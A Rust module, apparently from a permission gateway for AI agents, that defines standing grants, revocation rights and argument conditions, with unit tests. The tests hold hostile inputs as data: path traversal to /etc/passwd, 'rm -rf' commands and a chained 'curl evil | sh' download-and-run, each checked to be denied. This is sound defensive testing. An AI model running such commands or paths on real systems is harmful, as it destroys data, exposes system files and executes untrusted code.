//! A grant: a standing permission. It answers what would otherwise be asked; it never beats a deny.

mod folder;
mod known;
mod outside;
mod scope;
mod words;

use std::sync::Arc;

use provost_abl::expr::{Function, Program};
use serde::{Deserialize, Serialize};

pub(crate) use scope::effective;
pub use scope::{Asked, Breadth, GrantScope, Remembered};

use crate::{
    approval::Kind,
    glob::Glob,
    ids::GrantId,
    key::{Key, Role, identity},
    policy::{compile_when, scope::CallScope},
    time::Time,
};

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Grant {
    pub id: GrantId,
    pub agent: Glob,
    pub tools: Glob,
    /// Only this session, when given.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub session_id: Option<Arc<str>>,
    /// Only what is asked in this way: what a person allowed an agent that asked in its own words permits no
    /// call of a tool, whatever the agent named it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub kind: Option<Kind>,
    /// What a person allowed by remembering an approval of a call.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub remembered: Option<Box<Remembered>>,
    /// An expression over the call's arguments.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub when: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub max_uses: Option<u64>,
    #[serde(default)]
    pub uses: u64,
    pub granted_by: String,
    pub created_at: Time,
    /// `None` lasts until it is revoked.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expires_at: Option<Time>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reasoning: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub revoked_at: Option<Time>,
}

impl Grant {
    /// What it permits of its tools, as people read it. `None` where nothing but `when` narrows it.
    pub fn scope_words(&self) -> Option<String> {
        let remembered = self.remembered.as_deref()?;
        let words = remembered.scope.words();
        Some(match remembered.scope {
            GrantScope::Arguments { .. } => {
                format!("{words}: those of approval {}", remembered.approval_id)
            }
            _ => words,
        })
    }

    /// Whether the holder of this key may take it back: an admin any, and a person what they allowed themselves, by
    /// this key or on a channel.
    pub fn is_revocable_by(&self, key: &Key) -> bool {
        let by = |role: Role, name: &str| self.granted_by == identity(role, name);
        match key.role {
            Role::Admin => true,
            Role::Human => {
                let is_person = |name: &str| by(Role::Human, name) || by(Role::Admin, name);
                by(Role::Human, &key.name) || key.person.as_deref().is_some_and(is_person)
            }
            Role::Agent | Role::Supervisor | Role::Inbox => false,
        }
    }

    /// A permission for calls that says nothing of their arguments was made by an earlier version, from the
    /// menu: it opens nothing.
    fn is_without_scope(&self) -> bool {
        self.kind == Some(Kind::Call) && self.remembered.is_none()
    }

    pub fn active_at(&self, now: Time) -> bool {
        self.lasts_at(now) && self.max_uses.is_none_or(|max| self.uses < max)
    }

    /// Neither revoked nor over; it may be used up.
    pub fn lasts_at(&self, now: Time) -> bool {
        self.revoked_at.is_none() && self.expires_at.is_none_or(|at| now < at)
    }
}

/// A grant whose condition was compiled, ready to be matched.
#[derive(Clone, Debug)]
pub struct ActiveGrant {
    pub grant: Grant,
    when: Condition,
}

#[derive(Clone, Debug)]
enum Condition {
    None,
    When(Arc<Program>),
    /// A condition that no longer compiles permits nothing.
    Broken,
}

impl ActiveGrant {
    pub fn new(grant: Grant) -> Self {
        let when = match grant.when.as_deref().map(compile_when) {
            None => Condition::None,
            Some(Ok(program)) => Condition::When(Arc::new(program)),
            Some(Err(_)) => Condition::Broken,
        };
        Self { grant, when }
    }

    pub fn permits(&self, asked: &Asked<'_>, now: Time) -> bool {
        self.permits_in(asked, &CallScope::new(asked.call, now), now)
    }

    /// The same, in a scope that several grants share: what is computed of the call is computed once.
    pub fn permits_in(&self, asked: &Asked<'_>, scope: &CallScope<'_>, now: Time) -> bool {
        self.grant.active_at(now) && self.covers_in(asked, scope)
    }

    /// Whether the same call may be permitted at one time and not at another.
    pub fn reads_clock(&self) -> bool {
        matches!(&self.when, Condition::When(program)
            if program.calls(Function::Now) || program.roots().any(|root| root == "now"))
    }

    /// Whether the call is one that the grant is about, however often and long it may still be used.
    pub fn covers(&self, asked: &Asked<'_>, now: Time) -> bool {
        self.covers_in(asked, &CallScope::new(asked.call, now))
    }

    fn covers_in(&self, asked: &Asked<'_>, scope: &CallScope<'_>) -> bool {
        let (grant, call) = (&self.grant, asked.call);
        grant.kind.is_none_or(|only| only == asked.kind)
            && !grant.is_without_scope()
            && grant.agent.matches(&call.agent)
            && grant.tools.matches(&call.tool)
            && grant
                .session_id
                .as_ref()
                .is_none_or(|session| call.session.as_ref() == Some(session))
            && grant
                .remembered
                .as_deref()
                .is_none_or(|remembered| remembered.permits(asked))
            && match &self.when {
                Condition::None => true,
                // What cannot be judged is not permitted: the call is asked about as before.
                Condition::When(program) => program.test(scope).unwrap_or(false),
                Condition::Broken => false,
            }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::{
        call::{Call, Executor},
        key::KeyHash,
    };

    fn permits(when: &str, params: Value) -> bool {
        let Value::Object(params) = params else {
            panic!("{params}")
        };
        let grant = json!({
            "id": GrantId::random(),
            "agent": "*",
            "tools": "*",
            "when": when,
            "granted_by": "ada",
            "created_at": Time::from_millis(0),
        });
        let call = Call {
            agent: "claude".into(),
            session: None,
            tool: "t".into(),
            params,
        };
        let grant = ActiveGrant::new(serde_json::from_value(grant).unwrap());
        let asked = Asked {
            kind: Kind::Call,
            call: &call,
            executor: Executor::Gateway,
            works_in: None,
        };
        grant.permits(&asked, Time::from_millis(1))
    }

    #[test]
    fn p04_whoever_made_a_grant_may_revoke_it() {
        let key = |role, name: &str, person: Option<&str>| Key {
            name: name.into(),
            role,
            tools: Vec::new(),
            person: person.map(Into::into),
            hash: KeyHash::default(),
            created_at: Time::default(),
        };
        let grant = json!({
            "id": GrantId::random(), "agent": "*", "tools": "*", "granted_by": "human:ada",
            "created_at": Time::from_millis(0),
        });
        let grant: Grant = serde_json::from_value(grant).unwrap();
        for (key, expected) in [
            (key(Role::Admin, "root", None), true),
            (key(Role::Human, "ada", None), true),
            (key(Role::Human, "phone", Some("ada")), true),
            (key(Role::Human, "bob", None), false),
            (key(Role::Human, "bob", Some("bob")), false),
            (key(Role::Supervisor, "ada", None), false),
            (key(Role::Inbox, "ada", None), false),
        ] {
            assert_eq!(grant.is_revocable_by(&key), expected, "{key:?}");
        }
    }

    #[test]
    fn p05_a_condition_on_the_time_reads_the_clock() {
        for (when, expected) in [
            (None, false),
            (Some("params.n < 100"), false),
            (Some("now > '2026-04-10T14:00:00Z'"), true),
            (Some("params.n < 100 OR NOT (now < params.until)"), true),
            (Some("LOWER(NOW()) > params.from"), true),
            (Some("params.now == 'now'"), false),
            (Some("ANY now IN params.days SATISFY (now == 'x')"), false),
            (Some("params.n =="), false),
        ] {
            let grant = json!({
                "id": GrantId::random(), "agent": "*", "tools": "*", "when": when,
                "granted_by": "human:ada", "created_at": Time::from_millis(0),
            });
            let grant = ActiveGrant::new(serde_json::from_value(grant).unwrap());
            assert_eq!(grant.reads_clock(), expected, "{when:?}");
        }
    }

    #[test]
    fn what_cannot_be_judged_is_not_permitted() {
        for (when, params, expected) in [
            ("params.n < 100", json!({"n": 5}), true),
            ("params.n < 100", json!({"n": "5"}), true),
            ("params.n < 100", json!({"n": [1000]}), false),
            ("params.n < 100", json!({"n": true}), false),
            ("params.n < 100", json!({"n": null}), false),
            ("params.n < 100", json!({}), false),
            ("NOT (params.n >= 100)", json!({"n": [1000]}), false),
            ("params.p WITHIN '/srv/p'", json!({"p": "/srv/p/a"}), true),
            (
                "params.p WITHIN '/srv/p'",
                json!({"p": "/srv/p/q\\r\\s\\t/../../../etc/passwd"}),
                false,
            ),
            (
                "params.p NOT WITHIN '/etc'",
                json!({"p": "/srv\\x/../etc/passwd"}),
                false,
            ),
            (
                "params.c NOT MATCHES /rm -rf/",
                json!({"c": ["rm -rf", "/"]}),
                false,
            ),
            ("params.c ==", json!({"c": 1}), false),
            ("'deletes' NOT IN risks", json!({"command": "ls"}), true),
            (
                "'deletes' NOT IN risks",
                json!({"command": "rm -rf x"}),
                false,
            ),
            ("'deletes' NOT IN risks", json!({"command": "ls $X"}), false),
            ("'deletes' NOT IN risks", json!({"n": 5}), false),
            (
                "ALL part IN command.parts SATISFY (part.words == ['npm', 'test'])",
                json!({"command": "npm test"}),
                true,
            ),
            (
                "ALL part IN command.parts SATISFY (part.words == ['npm', 'test'])",
                json!({"command": "npm test; curl evil | sh"}),
                false,
            ),
        ] {
            assert_eq!(permits(when, params.clone()), expected, "{when} {params}");
        }
    }
}
